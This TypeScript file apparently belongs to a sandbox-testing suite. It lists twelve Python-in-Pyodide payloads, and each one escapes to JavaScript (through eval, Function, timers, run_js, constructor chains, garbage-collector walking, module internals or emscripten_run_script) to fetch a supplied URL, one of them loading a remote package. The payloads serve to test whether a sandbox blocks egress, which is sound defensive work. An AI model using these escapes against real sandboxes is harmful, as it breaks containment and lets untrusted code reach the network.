import type { Attack, Target } from "../attack.ts";
import { pythonRow } from "../python-row.ts";

const row = (id: string, reaches: string, body: (target: Target) => string): Attack =>
  pythonRow({ id, reaches, aim: "network", evidence: "hit", body });

/** Ways from Python to JavaScript, by text that JavaScript shall run and by objects that are found. Each then fetches. */
export const pythonJavaScript: readonly Attack[] = [
  row("py-eval", "js.eval", ({ url }) => `import js\njs.eval('fetch("${url}")')`),
  row("py-function", "js.Function", ({ url }) => `import js\njs.Function.new('fetch("${url}")')()`),
  row(
    "py-settimeout-text",
    "js.setTimeout, given text",
    ({ url }) => `import js\njs.setTimeout('fetch("${url}")', 0)`,
  ),
  row(
    "py-setinterval-text",
    "js.setInterval, given text",
    ({ url }) => `import js\njs.setInterval('fetch("${url}")', 50)`,
  ),
  row(
    "py-run-js",
    "pyodide.code.run_js",
    ({ url }) => `from pyodide.code import run_js\nrun_js('fetch("${url}")')`,
  ),
  row(
    "py-proxy-constructor",
    "the constructor of a JsProxy's constructor",
    ({ url }) => `from pyodide.ffi import to_js\nto_js([]).constructor.constructor('fetch("${url}")')()`,
  ),
  row(
    "py-async-function",
    "AsyncFunction, the constructor of pyodide_js.runPythonAsync",
    ({ url }) => `
import pyodide_js
when(pyodide_js.runPythonAsync.constructor('return fetch("${url}")')(), tell)`,
  ),
  row(
    "py-gc",
    "the global object, found by gc.get_referents",
    ({ url }) => `
import gc
gc.unfreeze()
found = [each for holder in gc.get_objects() for each in gc.get_referents(holder) if "JsProxy" in str(type(each).__mro__) and hasattr(each, "fetch")]
found[0].fetch("${url}")`,
  ),
  row(
    "py-sys-modules",
    'sys.modules["pyodide_js._api"]',
    ({ url }) => `
import sys
api = sys.modules["pyodide_js._api"]
when(api.public_api.loadPackage("${url}/attack-1.0-py3-none-any.whl"), tell)`,
  ),
  row(
    "py-meta-path",
    "the finder of JavaScript's modules in sys.meta_path",
    ({ url }) => `
import sys
(finder,) = [each for each in sys.meta_path if hasattr(each, "jsproxies")]
when(finder.jsproxies["js"].fetch("${url}"), tell)`,
  ),
  row(
    "py-emscripten-run-script",
    "ctypes.pythonapi.emscripten_run_script",
    ({ url }) => `
import ctypes
ctypes.pythonapi.emscripten_run_script(b'fetch("${url}")')`,
  ),
  row(
    "py-emscripten-run-script-int",
    "ctypes.pythonapi.emscripten_run_script_int",
    ({ url }) => `
import ctypes
return ctypes.pythonapi.emscripten_run_script_int(b'fetch("${url}"), 1')`,
  ),
];
